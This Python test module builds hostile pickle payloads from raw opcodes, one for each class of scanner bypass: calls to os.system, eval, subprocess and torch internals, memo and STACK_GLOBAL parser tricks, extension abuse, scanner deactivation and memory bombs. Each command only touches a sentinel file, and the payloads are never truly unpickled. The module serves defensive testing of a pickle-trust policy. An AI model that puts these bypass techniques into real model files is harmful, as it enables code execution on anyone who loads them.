"""Hostile pickles written opcode by opcode: one per bypass class of trust.md §3.

Every payload is built from raw opcodes by :class:`Ops`, never by pickling a
real object, and is never unpickled by a plain unpickler: the only
unpickler here is :class:`Recorder`, whose ``find_class`` records the
``(module, name)`` CPython would import and returns an inert stand-in (or
raises), so a test can prove a payload is well formed without running it.

A payload's command is a harmless, observable sentinel: it would create the
file ``sentinel`` (``touch``, ``open(..., "w")``, a ``FileHandler``), so a
test asserts both the refusal and that the file does not exist.
"""

from __future__ import annotations

import contextlib
import io
import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

# -- the opcode builder ---------------------------------------------------------------


class Ops:
    """Raw pickle opcodes, appended in order; :meth:`bytes` joins them."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []

    def data(self) -> bytes:
        """The stream so far."""
        return b"".join(self.parts)

    def raw(self, data: bytes) -> Ops:
        """Any bytes, as they are."""
        self.parts.append(data)
        return self

    # framing and control
    def proto(self, n: int) -> Ops:
        return self.raw(b"\x80" + bytes([n]))

    def stop(self) -> Ops:
        return self.raw(b".")

    def mark(self) -> Ops:
        return self.raw(b"(")

    def pop(self) -> Ops:
        return self.raw(b"0")

    def pop_mark(self) -> Ops:
        return self.raw(b"1")

    def dup(self) -> Ops:
        return self.raw(b"2")

    # strings
    def short_binunicode(self, s: str) -> Ops:
        b = s.encode("utf-8")
        assert len(b) < 256
        return self.raw(b"\x8c" + bytes([len(b)]) + b)

    def binunicode(self, s: str) -> Ops:
        b = s.encode("utf-8")
        return self.raw(b"X" + struct.pack("<I", len(b)) + b)

    def unicode(self, s: str) -> Ops:
        return self.raw(b"V" + s.encode("raw-unicode-escape") + b"\n")

    def binstring(self, s: str) -> Ops:
        b = s.encode("ascii")
        return self.raw(b"T" + struct.pack("<i", len(b)) + b)

    def short_binstring(self, s: str) -> Ops:
        b = s.encode("ascii")
        return self.raw(b"U" + bytes([len(b)]) + b)

    def string(self, s: str) -> Ops:
        return self.raw(b"S" + repr(s).encode("ascii") + b"\n")

    def text(self, s: str) -> Ops:
        """A text push, short or long."""
        return self.short_binunicode(s) if len(s.encode()) < 256 else self.binunicode(s)

    # other scalars
    def binbytes(self, b: bytes) -> Ops:
        return self.raw(b"B" + struct.pack("<I", len(b)) + b)

    def integer(self, n: int) -> Ops:
        if 0 <= n < 256:
            return self.raw(b"K" + bytes([n]))
        return self.raw(b"J" + struct.pack("<i", n))

    def none(self) -> Ops:
        return self.raw(b"N")

    def true(self) -> Ops:
        return self.raw(b"\x88")

    def push(self, value: Any) -> Ops:
        """A constant: str, bytes, int, bool, None, or a tuple/list of them."""
        if isinstance(value, bool):
            return self.raw(b"\x88" if value else b"\x89")
        if isinstance(value, str):
            return self.text(value)
        if isinstance(value, bytes):
            return self.binbytes(value)
        if isinstance(value, int):
            return self.integer(value)
        if value is None:
            return self.none()
        if isinstance(value, tuple):
            return self.tuple_of(*value)
        if isinstance(value, list):
            self.empty_list().mark()
            for v in value:
                self.push(v)
            return self.appends()
        if isinstance(value, dict):
            self.empty_dict()
            for k, v in value.items():
                self.push(k).push(v).setitem()
            return self
        raise TypeError(value)

    # memo
    def memoize(self) -> Ops:
        return self.raw(b"\x94")

    def binput(self, i: int) -> Ops:
        return self.raw(b"q" + bytes([i]))

    def binget(self, i: int) -> Ops:
        return self.raw(b"h" + bytes([i]))

    def long_binget(self, i: int) -> Ops:
        return self.raw(b"j" + struct.pack("<I", i))

    def put(self, i: int) -> Ops:
        return self.raw(b"p%d\n" % i)

    def get(self, i: int) -> Ops:
        return self.raw(b"g%d\n" % i)

    # containers
    def empty_tuple(self) -> Ops:
        return self.raw(b")")

    def tuple1(self) -> Ops:
        return self.raw(b"\x85")

    def tuple2(self) -> Ops:
        return self.raw(b"\x86")

    def tuple3(self) -> Ops:
        return self.raw(b"\x87")

    def tuple_(self) -> Ops:
        return self.raw(b"t")

    def tuple_of(self, *values: Any) -> Ops:
        """A tuple of constants, with the shortest opcode."""
        if not values:
            return self.empty_tuple()
        if len(values) <= 3:
            for v in values:
                self.push(v)
            return self.raw({1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(values)])
        self.mark()
        for v in values:
            self.push(v)
        return self.tuple_()

    def empty_list(self) -> Ops:
        return self.raw(b"]")

    def list_(self) -> Ops:
        return self.raw(b"l")

    def append(self) -> Ops:
        return self.raw(b"a")

    def appends(self) -> Ops:
        return self.raw(b"e")

    def empty_dict(self) -> Ops:
        return self.raw(b"}")

    def setitem(self) -> Ops:
        return self.raw(b"s")

    def setitems(self) -> Ops:
        return self.raw(b"u")

    def empty_set(self) -> Ops:
        return self.raw(b"\x8f")

    def additems(self) -> Ops:
        return self.raw(b"\x90")

    # globals and calls
    def global_(self, module: str, name: str) -> Ops:
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def inst(self, module: str, name: str) -> Ops:
        return self.raw(b"i" + module.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self) -> Ops:
        return self.raw(b"\x93")

    def sglobal(self, module: str, name: str) -> Ops:
        """``module``/``name`` pushed as strings, then STACK_GLOBAL."""
        return self.text(module).text(name).stack_global()

    def reduce(self) -> Ops:
        return self.raw(b"R")

    def build(self) -> Ops:
        return self.raw(b"b")

    def newobj(self) -> Ops:
        return self.raw(b"\x81")

    def obj(self) -> Ops:
        return self.raw(b"o")

    def ext1(self, code: int) -> Ops:
        return self.raw(b"\x82" + bytes([code]))

    def ext2(self, code: int) -> Ops:
        return self.raw(b"\x83" + struct.pack("<H", code))

    def ext4(self, code: int) -> Ops:
        return self.raw(b"\x84" + struct.pack("<i", code))

    def call(self, module: str, name: str, *args: Any, stack: bool = False) -> Ops:
        """``module.name(*args)``: the global (GLOBAL, or STACK_GLOBAL), the args, REDUCE."""
        (self.sglobal if stack else self.global_)(module, name)
        return self.tuple_of(*args).reduce()


def call(module: str, name: str, *args: Any, proto: int = 2, stack: bool = False) -> bytes:
    """One complete pickle calling ``module.name(*args)``."""
    ops = Ops().proto(proto) if proto >= 2 else Ops()
    return ops.call(module, name, *args, stack=stack).stop().data()


def touch(sentinel: str) -> str:
    """The shell command that makes the sentinel appear."""
    return f"touch {sentinel}"


def py_touch(sentinel: str) -> str:
    """Python source that makes the sentinel appear."""
    return f"open({sentinel!r}, 'w').close()"


# -- the catalogue ----------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    """One hostile pickle, built for a given sentinel path."""

    id: str
    #: the item of trust.md §3 it stands for (A1 ... D33)
    item: str
    build: Callable[[str], bytes]
    #: globals (``str(Global)``) an :class:`UntrustedModel` refusal must name
    names: tuple[str, ...] = ()
    #: the scan itself must refuse it (:class:`UnsafePickle`), whatever the policy
    unsafe: bool = False
    #: ``(module, name)`` pairs, as written, that CPython's unpickler hands to
    #: find_class (proves the payload reaches the dangerous import)
    reaches: tuple[tuple[str, str], ...] = ()

    def __str__(self) -> str:
        return self.id


PAYLOADS: list[Payload] = []


def _add(
    id: str,
    item: str,
    build: Callable[[str], bytes],
    names: tuple[str, ...] = (),
    *,
    unsafe: bool = False,
    reaches: tuple[tuple[str, str], ...] | None = None,
) -> None:
    if reaches is None:
        reaches = tuple(_written(n) for n in names)
    PAYLOADS.append(Payload(id, item, build, names, unsafe, reaches))


def _written(name: str) -> tuple[str, str]:
    module, colon, qual = name.partition(":")
    if colon:
        return module, qual
    module, _, qual = name.rpartition(".")
    return module, qual


ArgsOf = Callable[[str], tuple[Any, ...]]


def _ext(op: str) -> Callable[[str], bytes]:
    return lambda s: getattr(Ops().proto(2), op)(1).tuple_of(touch(s)).reduce().stop().data()


def _stack_global_of(kind: str) -> Callable[[str], bytes]:
    def build(s: str) -> bytes:
        ops = getattr(getattr(Ops(), kind)("os"), kind)("system")
        return ops.stack_global().text(touch(s)).tuple1().reduce().stop().data()  # type: ignore[no-any-return]

    return build


def _simple(
    id: str, item: str, module: str, name: str, args: Callable[[str], tuple[Any, ...]]
) -> None:
    qual = f"{module}:{name}" if "." in name else f"{module}.{name}"
    proto = 4 if "." in name else 2
    _add(id, item, lambda s: call(module, name, *args(s), proto=proto, stack=proto == 4), (qual,))


# A. Callables not on a deny-list --------------------------------------------------

_simple("pip.main", "A1", "pip", "main", lambda s: (["install", "--no-index", s],))
_simple("pip.internal.main", "A1", "pip._internal.cli.main", "main", lambda s: (["--version"],))
_simple(
    "pip.distlib.ScriptMaker", "A1", "pip._vendor.distlib.scripts", "ScriptMaker", lambda s: (s, s)
)
_simple("ensurepip._run_pip", "A2", "ensurepip", "_run_pip", lambda s: (["--version"],))
_simple("venv.create", "A2", "venv", "create", lambda s: (s,))
_simple("venv.EnvBuilder.create", "A2", "venv", "EnvBuilder.create", lambda s: (s,))

# pkgutil.resolve_name("os:system")(cmd): the result of one call is called
_add(
    "pkgutil.resolve_name",
    "A3",
    lambda s: (
        Ops()
        .proto(2)
        .call("pkgutil", "resolve_name", "os:system")
        .tuple_of(touch(s))
        .reduce()
        .stop()
        .data()
    ),
    ("pkgutil.resolve_name",),
)
# pydoc.locate("os") then _operator.methodcaller("system", cmd)(module)
_add(
    "pydoc.locate+methodcaller",
    "A3",
    lambda s: (
        Ops()
        .proto(2)
        .call("_operator", "methodcaller", "system", touch(s))
        .call("pydoc", "locate", "os")
        .tuple1()
        .reduce()
        .stop()
        .data()
    ),
    ("_operator.methodcaller", "pydoc.locate"),
)
_add(
    "importlib.import_module+getattr",
    "A3",
    lambda s: (
        Ops()
        .proto(2)
        .global_("builtins", "getattr")
        .call("importlib", "import_module", "os")
        .text("system")
        .tuple2()
        .reduce()
        .tuple_of(touch(s))
        .reduce()
        .stop()
        .data()
    ),
    ("builtins.getattr", "importlib.import_module"),
)
_add(
    "pydoc.locate(ctypes.CDLL)",
    "A3",
    lambda s: (
        Ops().proto(2).call("pydoc", "locate", "ctypes.CDLL").tuple_of(None).reduce().stop().data()
    ),
    ("pydoc.locate",),
)
# builtins.__import__('posix') -> vars(mod) -> _operator.getitem(d, 'system') -> (cmd)
_add(
    "builtins.__import__+vars+getitem",
    "A4",
    lambda s: (
        Ops()
        .proto(2)
        .global_("_operator", "getitem")
        .global_("builtins", "vars")
        .call("builtins", "__import__", "posix")
        .tuple1()
        .reduce()
        .text("system")
        .tuple2()
        .reduce()
        .tuple_of(touch(s))
        .reduce()
        .stop()
        .data()
    ),
    ("_operator.getitem", "builtins.vars", "builtins.__import__"),
)
_BUILTIN_CALLS: list[tuple[str, ArgsOf]] = [
    ("eval", lambda s: (f"__import__('os').system({touch(s)!r})",)),
    ("exec", lambda s: (py_touch(s),)),
    ("compile", lambda s: (py_touch(s), "<p>", "exec")),
    ("open", lambda s: (s, "w")),
    ("breakpoint", lambda s: ()),
    ("globals", lambda s: ()),
    ("setattr", lambda s: (s, "x", 1)),
    ("__import__", lambda s: ("os",)),
]
for _name, _args in _BUILTIN_CALLS:
    _simple(f"builtins.{_name}", "A4", "builtins", _name, _args)
# Python 2 names are mapped to Python 3 ones below protocol 3: the scan must name the mapped one
_add(
    "__builtin__.eval (py2 name)",
    "A4",
    lambda s: call("__builtin__", "eval", f"__import__('os').system({touch(s)!r})", proto=2),
    ("builtins.eval",),
    reaches=(("__builtin__", "eval"),),
)
_add(
    "attrgetter(system)(posix)",
    "A5",
    lambda s: (
        Ops()
        .proto(2)
        .call("_operator", "attrgetter", "system")
        .call("builtins", "__import__", "posix")
        .tuple1()
        .reduce()
        .tuple_of(touch(s))
        .reduce()
        .stop()
        .data()
    ),
    ("_operator.attrgetter", "builtins.__import__"),
)
_simple("operator.methodcaller", "A5", "operator", "methodcaller", lambda s: ("system", touch(s)))
_simple("_operator.itemgetter", "A5", "_operator", "itemgetter", lambda s: ("system",))
_add(
    "functools.partial(os.system)",
    "A5",
    lambda s: (
        Ops()
        .proto(2)
        .global_("functools", "partial")
        .global_("os", "system")
        .text(touch(s))
        .tuple2()
        .reduce()
        .empty_tuple()
        .reduce()
        .stop()
        .data()
    ),
    ("functools.partial", "os.system"),
)

_simple("timeit.timeit", "A6", "timeit", "timeit", lambda s: (py_touch(s), "pass", None, 1))
_simple("cProfile.run", "A6", "cProfile", "run", lambda s: (py_touch(s),))
_simple("cProfile.runctx", "A6", "cProfile", "runctx", lambda s: (py_touch(s), None, None))
_simple("profile.run", "A6", "profile", "run", lambda s: (py_touch(s),))
_simple("profile.Profile.runctx", "A6", "profile", "Profile.runctx", lambda s: (py_touch(s),))
_simple("trace.Trace.runctx", "A6", "trace", "Trace.runctx", lambda s: (py_touch(s),))
_simple(
    "code.InteractiveInterpreter.runsource",
    "A6",
    "code",
    "InteractiveInterpreter.runsource",
    lambda s: (py_touch(s),),
)
_simple("doctest.debug_script", "A6", "doctest", "debug_script", lambda s: (py_touch(s),))
_simple(
    "idlelib.pyshell.runcommand",
    "A6",
    "idlelib.pyshell",
    "ModifiedInterpreter.runcommand",
    lambda s: (py_touch(s),),
)
_simple(
    "idlelib.run.Executive.runcode",
    "A6",
    "idlelib.run",
    "Executive.runcode",
    lambda s: (py_touch(s),),
)
_simple(
    "idlelib.calltip.get_entity", "A6", "idlelib.calltip", "get_entity", lambda s: (py_touch(s),)
)
_simple("lib2to3.Grammar.loads", "A6", "lib2to3.pgen2.grammar", "Grammar.loads", lambda s: (b"x",))
_simple(
    "lib2to3.make_label",
    "A6",
    "lib2to3.pgen2.pgen",
    "ParserGenerator.make_label",
    lambda s: (None, py_touch(s)),
)
_simple(
    "numpy.f2py.getlincoef",
    "A6",
    "numpy.f2py.crackfortran",
    "getlincoef",
    lambda s: (py_touch(s), {}),
)
_simple(
    "numpy.testing.runstring",
    "A6",
    "numpy.testing._private.utils",
    "runstring",
    lambda s: (py_touch(s), {}),
)
# a module whose import alone runs code: the policy must not import it to judge it
_simple("numpy.f2py.__main__", "A6", "numpy.f2py.__main__", "main", lambda s: ())
_simple("numpy tests setup.py", "A6", "numpy._core.tests.examples.cython.setup", "x", lambda s: ())

_simple("uuid._get_command_stdout", "A7", "uuid", "_get_command_stdout", lambda s: ("touch", s))
_simple("imaplib.IMAP4_stream", "A7", "imaplib", "IMAP4_stream", lambda s: (touch(s),))
_simple("_osx_support._read_output", "A7", "_osx_support", "_read_output", lambda s: (touch(s),))
_simple(
    "_aix_support._read_cmd_output", "A7", "_aix_support", "_read_cmd_output", lambda s: (touch(s),)
)
_simple("_pyrepl.pager.pipe_pager", "A7", "_pyrepl.pager", "pipe_pager", lambda s: ("x", touch(s)))
_simple(
    "test.support.script_helper",
    "A7",
    "test.support.script_helper",
    "assert_python_ok",
    lambda s: ("-c", py_touch(s)),
)
_simple("pty.spawn", "A7", "pty", "spawn", lambda s: (["touch", s],))
_add(
    "ctypes.CDLL(None).system",
    "A7",
    lambda s: (
        Ops()
        .proto(2)
        .call("_operator", "attrgetter", "system")
        .call("ctypes", "CDLL", None)
        .tuple1()
        .reduce()
        .tuple_of(touch(s).encode())
        .reduce()
        .stop()
        .data()
    ),
    ("_operator.attrgetter", "ctypes.CDLL"),
)
_simple("subprocess.Popen", "A7", "subprocess", "Popen", lambda s: (["touch", s],))
_simple("subprocess.check_output", "A7", "subprocess", "check_output", lambda s: (["touch", s],))

_simple(
    "torch.utils.collect_env.run", "A8", "torch.utils.collect_env", "run", lambda s: (touch(s),)
)
_simple(
    "torch._inductor.compile_file",
    "A8",
    "torch._inductor.codecache",
    "compile_file",
    lambda s: (s, s, ["touch", s]),
)
_simple(
    "torch.jit.execWrapper",
    "A8",
    "torch.jit.unsupported_tensor_ops",
    "execWrapper",
    lambda s: (py_touch(s), {}, {}),
)
_simple(
    "torch._dynamo.GuardBuilder.get",
    "A8",
    "torch._dynamo.guards",
    "GuardBuilder.get",
    lambda s: (None, py_touch(s)),
)
_simple(
    "torch.fx.evaluate_guards_expression",
    "A8",
    "torch.fx.experimental.symbolic_shapes",
    "ShapeEnv.evaluate_guards_expression",
    lambda s: (None, py_touch(s), []),
)
_simple(
    "torch.utils.bottleneck.run_cprofile",
    "A8",
    "torch.utils.bottleneck.__main__",
    "run_cprofile",
    lambda s: (py_touch(s), {}),
)
# a torch.nn.modules name whose qualname walks out of the class (dotted, protocol 4)
_simple(
    "torch.nn.modules dotted walk",
    "A8",
    "torch.nn.modules.module",
    "Module.__init__.__globals__",
    lambda s: (),
)

_add(
    "types.CodeType+FunctionType",
    "A9",
    lambda s: (
        Ops()
        .proto(2)
        .global_("types", "FunctionType")
        .global_("types", "CodeType")
        .mark()
        .integer(0)
        .integer(0)
        .integer(0)
        .integer(0)
        .integer(0)
        .integer(0)
        .binbytes(b"d\x00S\x00")
        .tuple_()
        .reduce()
        .empty_dict()
        .tuple2()
        .reduce()
        .empty_tuple()
        .reduce()
        .stop()
        .data()
    ),
    ("types.FunctionType", "types.CodeType"),
)
_add(
    "cloudpickle._make_function",
    "A9",
    lambda s: (
        Ops()
        .proto(4)
        .sglobal("cloudpickle.cloudpickle", "_make_function")
        .mark()
        .call("cloudpickle.cloudpickle", "_builtin_type", "CodeType", stack=True)
        .tuple_of(0, 0, 0, 0, 0, 0, b"d\x00S\x00")
        .reduce()
        .empty_dict()
        .none()
        .none()
        .none()
        .tuple_()
        .reduce()
        .stop()
        .data()
    ),
    ("cloudpickle.cloudpickle._make_function", "cloudpickle.cloudpickle._builtin_type"),
)

_simple("logging.FileHandler", "A10", "logging", "FileHandler", lambda s: (s,))
_simple("_io.FileIO", "A10", "_io", "FileIO", lambda s: (s, "w"))
_simple("io.open", "A10", "io", "open", lambda s: (s, "w"))
_simple("urllib.request.urlopen", "A10", "urllib.request", "urlopen", lambda s: (f"file://{s}",))
_simple("distutils.write_file", "A10", "distutils.file_util", "write_file", lambda s: (s, ["x"]))
_simple("shutil.copyfile", "A10", "shutil", "copyfile", lambda s: ("/dev/null", s))
_simple("shutil.rmtree", "A10", "shutil", "rmtree", lambda s: (s,))
_simple(
    "ssl.get_server_certificate",
    "A10",
    "ssl",
    "get_server_certificate",
    lambda s: (("localhost", 9),),
)
_simple("pathlib.Path.touch", "A10", "pathlib", "Path.touch", lambda s: (s,))

_simple(
    "asyncio.unix_events._start",
    "A11",
    "asyncio.unix_events",
    "_UnixSubprocessTransport._start",
    lambda s: (touch(s),),
)
_simple("os.system", "A11", "os", "system", lambda s: (touch(s),))
_simple("posix.system", "A11", "posix", "system", lambda s: (touch(s),))
_simple("nt.system", "A11", "nt", "system", lambda s: (touch(s),))
_add(
    "os.system by INST",
    "A11",
    lambda s: Ops().mark().text(touch(s)).inst("os", "system").stop().data(),
    ("os.system",),
)
_add(
    "os.system by OBJ",
    "A11",
    lambda s: Ops().proto(2).mark().global_("os", "system").text(touch(s)).obj().stop().data(),
    ("os.system",),
)
_add(
    "os.system by NEWOBJ",
    "A11",
    lambda s: (
        Ops().proto(2).global_("subprocess", "Popen").tuple_of(["touch", s]).newobj().stop().data()
    ),
    ("subprocess.Popen",),
)
# an allowed global first, the dangerous one after it
_add(
    "OrderedDict then os.system",
    "A11",
    lambda s: (
        Ops()
        .proto(2)
        .global_("collections", "OrderedDict")
        .empty_tuple()
        .reduce()
        .pop()
        .call("os", "system", touch(s))
        .stop()
        .data()
    ),
    ("os.system",),
    reaches=(("collections", "OrderedDict"), ("os", "system")),
)
# an allowed module, a qualname that walks out of the allowed class
_simple(
    "collections:OrderedDict.fromkeys.__self__",
    "A11",
    "collections",
    "OrderedDict.fromkeys.__self__",
    lambda s: (),
)
_simple(
    "sklearn excluded via a dotted walk",
    "A11",
    "sklearn.utils",
    "_testing.TempMemmap",
    lambda s: (s,),
)

# B. The scanner's parse differs from the unpickler's ------------------------------------

_add(
    "memo alias",
    "B12",
    lambda s: (
        Ops()
        .proto(4)
        .text("posix")
        .memoize()
        .pop()
        .binget(0)
        .memoize()
        .pop()
        .text("system")
        .memoize()
        .pop()
        .binget(1)
        .binget(2)
        .stack_global()
        .text(touch(s))
        .tuple1()
        .reduce()
        .stop()
        .data()
    ),
    ("posix.system",),
)
_add(
    "memo alias by PUT/GET text",
    "B12",
    lambda s: (
        Ops()
        .proto(4)
        .text("os")
        .put(7)
        .pop()
        .text("system")
        .put(8)
        .pop()
        .get(7)
        .get(8)
        .stack_global()
        .text(touch(s))
        .tuple1()
        .reduce()
        .stop()
        .data()
    ),
    ("os.system",),
)
_add(
    "DUP alias",
    "B13",
    lambda s: (
        Ops()
        .proto(4)
        .text("posix")
        .dup()
        .memoize()
        .pop()
        .pop()
        .binget(0)
        .text("system")
        .stack_global()
        .text(touch(s))
        .tuple1()
        .reduce()
        .stop()
        .data()
    ),
    ("posix.system",),
)
_add(
    "copyreg.add_extension+EXT1",
    "B14",
    lambda s: (
        Ops()
        .proto(2)
        .call("copyreg", "add_extension", "posix", "system", 240)
        .pop()
        .ext1(240)
        .tuple_of(touch(s))
        .reduce()
        .stop()
        .data()
    ),
    unsafe=True,
    reaches=(("copyreg", "add_extension"),),
)
for _op in ("ext1", "ext2", "ext4"):
    _add(
        f"{_op.upper()} alone",
        "B14",
        _ext(_op),
        unsafe=True,
    )
for _kind in ("binstring", "short_binstring", "string", "unicode"):
    _add(
        f"STACK_GLOBAL of {_kind.upper()} with no PROTO",
        "B15",
        _stack_global_of(_kind),
        ("os.system",),
    )
_add(
    "missing memo key after os.system",
    "B16",
    lambda s: Ops().proto(2).call("os", "system", touch(s)).binget(9).stop().data(),
    unsafe=True,
    reaches=(("os", "system"),),
)
_add(
    "STACK_GLOBAL of a call result",
    "B16",
    lambda s: (
        Ops()
        .proto(4)
        .call("builtins", "str", "os")
        .text("system")
        .stack_global()
        .text(touch(s))
        .tuple1()
        .reduce()
        .stop()
        .data()
    ),
    unsafe=True,
)
_add(
    "STACK_GLOBAL of an int memo value",
    "B16",
    lambda s: (
        Ops()
        .proto(4)
        .integer(1)
        .memoize()
        .pop()
        .binget(0)
        .text("system")
        .stack_global()
        .stop()
        .data()
    ),
    unsafe=True,
)
_add(
    "junk after the payload",
    "B17",
    lambda s: call("os", "system", touch(s)) + b"\xff\xfe junk",
    unsafe=True,
    reaches=(("os", "system"),),
)
_add(
    "payload then no STOP",
    "B17",
    lambda s: call("os", "system", touch(s))[:-1] + b"\xff",
    unsafe=True,
    reaches=(("os", "system"),),
)
_add(
    "two pickles",
    "B18",
    lambda s: pickle.dumps({"a": 1}, protocol=2) + call("os", "system", touch(s)),
    unsafe=True,
)
_add(
    "legacy torch magic by REDUCE",
    "B19",
    lambda s: (
        Ops().proto(2).call("builtins", "int", "119547037146038801333356").stop().data()
        + Ops().proto(2).push(1001).stop().data()
        + call("os", "system", touch(s))
    ),
    unsafe=True,
)
# SETITEM/APPEND/ADDITEMS/BUILD on objects that are no dict/list/set: CPython calls
# __setitem__/append/add/__setstate__ on whatever it is given
_add(
    "SETITEM on a list",
    "B20",
    lambda s: Ops().proto(2).call("builtins", "list").integer(0).integer(1).setitem().stop().data(),
    unsafe=True,
)
_add(
    "SETITEM on a tensor",
    "B20",
    lambda s: (
        Ops()
        .proto(2)
        .call("torch._utils", "_rebuild_tensor_v2", None, 0, (1,), (1,))
        .integer(0)
        .integer(1)
        .setitem()
        .stop()
        .data()
    ),
    unsafe=True,
)
_add(
    "APPEND on a dict",
    "B20",
    lambda s: Ops().proto(2).call("collections", "OrderedDict").integer(1).append().stop().data(),
    unsafe=True,
)
_add(
    "ADDITEMS on an OrderedDict",
    "B20",
    lambda s: (
        Ops().proto(4).call("collections", "OrderedDict").mark().integer(1).additems().stop().data()
    ),
    unsafe=True,
)
_add(
    "SETITEM on a global",
    "B20",
    lambda s: (
        Ops()
        .proto(2)
        .global_("collections", "OrderedDict")
        .integer(0)
        .integer(1)
        .setitem()
        .stop()
        .data()
    ),
    unsafe=True,
)
_add(
    "BUILD on a global",
    "B20",
    lambda s: (
        Ops().proto(2).global_("collections", "OrderedDict").empty_dict().build().stop().data()
    ),
    unsafe=True,
)
_add(
    "REDUCE of a call result",
    "B20",
    lambda s: (
        Ops().proto(2).call("collections", "OrderedDict").empty_tuple().reduce().stop().data()
    ),
    unsafe=True,
)

# C. Container and extension tricks (the pickle part; the files are in test_bypasses) -----

_add(
    "protocol 0 os.system",
    "C24",
    lambda s: b"cos\nsystem\n(S" + repr(touch(s)).encode() + b"\ntR.",
    ("os.system",),
)
_NESTED: list[tuple[str, str, ArgsOf]] = [
    ("pickle", "loads", lambda s: (call("os", "system", touch(s)),)),
    ("_pickle", "loads", lambda s: (call("os", "system", touch(s)),)),
    ("_pickle", "load", lambda s: (s,)),
    ("torch", "load", lambda s: (s,)),
    ("torch.serialization", "load", lambda s: (s,)),
    ("numpy", "load", lambda s: (s, None, True)),
    ("joblib", "load", lambda s: (s,)),
    ("pandas", "read_pickle", lambda s: (s,)),
    ("pandas.io.pickle", "read_pickle", lambda s: (s,)),
    ("cloudpickle", "loads", lambda s: (b"x",)),
    ("dill", "loads", lambda s: (b"x",)),
    ("torch.utils._config_module", "ConfigModule.load_config", lambda s: (None, b"x")),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", lambda s: ("x.pickle", b"x")),
    ("numpy.lib.format", "read_array", lambda s: (s, True)),
    ("numpy", "memmap", lambda s: (s, "uint8", "w+", 0, (1,))),
]
for _module, _name, _args in _NESTED:
    _simple(f"{_module}.{_name}", "C27", _module, _name, _args)

# D. The loader undoes the policy -------------------------------------------------------

for _module, _name in (
    ("modelyard.trust.policy", "add_machine_entries"),
    ("modelyard.trust.allowlist", "builtin"),
    ("fickling", "always_check_safety"),
    ("picklescan.scanner", "scan_pickle_bytes"),
):
    _simple(f"deactivate {_module}.{_name}", "D32", _module, _name, lambda s: (["os.system"],))
_add(
    "MARK nesting bomb",
    "D33",
    lambda s: Ops().proto(2).raw(b"(" * 200_000).stop().data(),
    unsafe=True,
)


def expansion_bomb(levels: int = 40, width: int = 10) -> bytes:
    """Lists of lists by memo reference: tiny in bytes, ``width**levels`` leaves unrolled."""
    ops = Ops().proto(2).empty_list().binput(0)
    for i in range(1, levels):
        ops.mark()
        for _ in range(width):
            ops.binget(i - 1)
        ops.list_().binput(i)
    return ops.stop().data()


# -- a find_class that records and never imports ---------------------------------------


class Inert:
    """What the recording unpickler hands back for every global: takes anything, does nothing."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        pass

    def __call__(self, *args: Any, **kwargs: Any) -> Inert:
        return Inert()

    def __setstate__(self, state: Any) -> None:
        pass

    def __setitem__(self, key: Any, value: Any) -> None:
        pass

    def append(self, item: Any) -> None:
        pass

    def extend(self, items: Any) -> None:
        pass

    def add(self, item: Any) -> None:
        pass


class Refused(Exception):
    """Raised by a strict :class:`Recorder` at the first global."""


class Recorder(pickle.Unpickler):
    """Records each ``(module, name)`` handed to find_class; returns :class:`Inert` or raises."""

    def __init__(self, data: bytes, *, strict: bool = False) -> None:
        super().__init__(io.BytesIO(data))
        self.seen: list[tuple[str, str]] = []
        self.strict = strict

    def find_class(self, module: str, name: str) -> Any:
        self.seen.append((module, name))
        if self.strict:
            raise Refused(f"{module}.{name}")
        return Inert

    def persistent_load(self, pid: Any) -> Any:
        return Inert()


def recorded(data: bytes, *, strict: bool = False) -> list[tuple[str, str]]:
    """Every global CPython's unpickler would import from ``data``, in order (nothing runs)."""
    rec = Recorder(data, strict=strict)
    with contextlib.suppress(Exception):  # a broken stream stops where CPython stops
        rec.load()
    return rec.seen
